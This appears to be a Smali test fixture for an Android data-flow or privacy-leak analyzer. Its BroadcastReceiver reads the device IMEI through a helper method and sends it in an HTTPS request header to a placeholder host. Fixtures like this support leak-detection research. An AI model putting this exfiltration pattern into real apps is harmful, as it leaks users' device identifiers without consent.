.class public Lorg/phonehome/test/flows/HelperCase;
.super Landroid/content/BroadcastReceiver;
.source "HelperCase.java"

# The IMEI comes back from a helper method (its return value) and goes in an HTTPS
# request header.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 6
    invoke-static {p1}, Lorg/phonehome/test/flows/Ids;->imei(Landroid/content/Context;)Ljava/lang/String;
    move-result-object v0
    :try_start
    new-instance v1, Ljava/net/URL;
    const-string v2, "https://helper.flows.example.net/v"
    invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v1
    check-cast v1, Ljavax/net/ssl/HttpsURLConnection;
    const-string v2, "X-Imei"
    invoke-virtual {v1, v2, v0}, Ljavax/net/ssl/HttpsURLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
    invoke-virtual {v1}, Ljavax/net/ssl/HttpsURLConnection;->getResponseCode()I
    :try_end
    .catch Ljava/io/IOException; {:try_start .. :try_end} :failed
    :failed
    return-void
.end method
